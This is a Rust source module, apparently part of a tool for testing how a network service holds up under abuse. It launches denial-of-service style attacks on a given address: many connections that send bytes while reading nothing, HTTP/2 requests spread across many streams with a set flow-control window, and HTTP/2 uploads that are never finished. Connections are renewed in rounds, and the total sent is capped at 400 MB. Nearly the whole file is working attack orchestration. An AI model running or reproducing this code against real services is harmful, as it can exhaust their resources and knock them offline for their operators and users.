//! Carrying out one way of abuse, on all of its connections.

use std::{
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicUsize, Ordering::Relaxed},
    },
    thread::{JoinHandle, sleep, spawn},
    time::{Duration, Instant},
};

use crate::{peer::Peer, streams};

/// Most that an attack sends, in bytes.
const MOST_SENT: usize = 400_000_000;
/// By now the service has given up on a peer that takes nothing: all come again.
pub(crate) const ROUND: Duration = Duration::from_secs(35);
/// Between one look at a connection and the next.
pub(crate) const REST: Duration = Duration::from_millis(10);

/// One way to abuse the service.
pub(crate) struct Way {
    pub(crate) name: String,
    pub(crate) connections: u32,
    pub(crate) act: Act,
}

/// Name and value.
pub(crate) type Field = (&'static str, &'static str);

/// What each connection does.
#[derive(Clone)]
pub(crate) enum Act {
    /// Sends some bytes once, others again and again, and reads nothing.
    Send { once: Arc<[u8]>, again: Arc<[u8]> },
    /// Asks for this target on many streams of HTTP/2 with this window.
    Ask { target: Arc<str>, field: Field, window: u32 },
    /// Sends content to this target on many streams of HTTP/2, and does not end it.
    Post { target: Arc<str>, field: Field, length: usize },
}

/// How far an attack has come.
#[derive(Clone, Default)]
pub(crate) struct Course {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicUsize>,
}

/// An attack until it is ended.
pub(crate) struct Attack {
    course: Course,
    threads: Vec<JoinHandle<()>>,
}

impl Course {
    pub(crate) fn is_over(&self) -> bool {
        self.stop.load(Relaxed)
    }

    /// Whether so many bytes may be sent; they count then.
    pub(crate) fn may_send(&self, bytes: usize) -> bool {
        let add = |sent: usize| Some(sent + bytes).filter(|sent| *sent <= MOST_SENT);
        self.sent.fetch_update(Relaxed, Relaxed, add).is_ok()
    }
}

impl Attack {
    pub(crate) fn begin(address: SocketAddr, way: &Way) -> Self {
        let course = Course::default();
        let own = course.clone();
        let connections = way.connections;
        let threads = match way.act.clone() {
            Act::Send { once, again } => {
                vec![spawn(move || send(address, connections, &once, &again, &own))]
            }
            act => (0..connections)
                .map(|_| (act.clone(), own.clone()))
                .map(|(act, own)| spawn(move || streams::abuse(address, &act, &own)))
                .collect(),
        };
        Self { course, threads }
    }

    /// Leaves, and says how many kB were sent.
    pub(crate) fn end(self) -> u32 {
        self.course.stop.store(true, Relaxed);
        for thread in self.threads {
            thread.join().unwrap();
        }
        u32::try_from(self.course.sent.load(Relaxed) / 1000).unwrap()
    }
}

fn send(
    address: SocketAddr,
    connections: u32,
    once: &[u8],
    again: &[u8],
    course: &Course,
) {
    while !course.is_over() {
        let round = Instant::now();
        let mut peers = Vec::new();
        while !course.is_over() && round.elapsed() < ROUND {
            // They come one by one, while those before them go on.
            if peers.len() < connections as usize {
                peers.push(Peer::connect(address));
            } else {
                sleep(REST);
            }
            for peer in &mut peers {
                if peer.send(once, again, course).is_err() {
                    *peer = Peer::connect(address);
                }
            }
        }
    }
}
